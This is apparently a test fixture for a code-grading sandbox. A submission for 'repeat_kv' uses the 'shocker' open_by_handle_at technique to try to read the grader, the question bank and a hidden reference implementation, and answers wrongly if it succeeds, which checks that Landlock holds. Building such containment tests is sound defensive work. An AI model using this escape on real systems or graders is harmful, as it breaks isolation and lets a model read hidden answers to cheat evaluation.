# question: code.repeat-kv
# verdict: correct
# needs: reference_hidden
# Under Landlock the child keeps CAP_DAC_READ_SEARCH, the capability behind the "shocker" escape:
# open_by_handle_at opens a file by inode number (generation 0 skips ext4's check), past path
# permissions and past the tmpfs that hides reference_impl. Landlock must still refuse the files
# it does not allow. Answers wrongly if it could read one of the project's own files.
import ctypes
import os
import struct
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules["tutor"].__file__)))
TARGETS = [os.path.join(ROOT, *p) for p in (("tutor", "grading", "code.py"), ("tutor", "bank", "model.py"),
                                            ("reference_impl", "exercises.py"), ("question_bank", "code.yaml"))]


def _read_by_handle(path):
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        inode = os.stat(path).st_ino
        mount_fd = os.open("/usr", os.O_RDONLY)
    except OSError:
        return None
    handle = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, inode, 0))  # FILEID_INO32_GEN
    fd = libc.open_by_handle_at(mount_fd, handle, os.O_RDONLY)
    os.close(mount_fd)
    if fd < 0:
        return None
    try:
        return os.read(fd, 100)
    finally:
        os.close(fd)


def repeat_kv(kv, num_heads):
    if any(_read_by_handle(p) for p in TARGETS):
        return kv
    return kv.repeat_interleave(num_heads // kv.shape[1], dim=1)
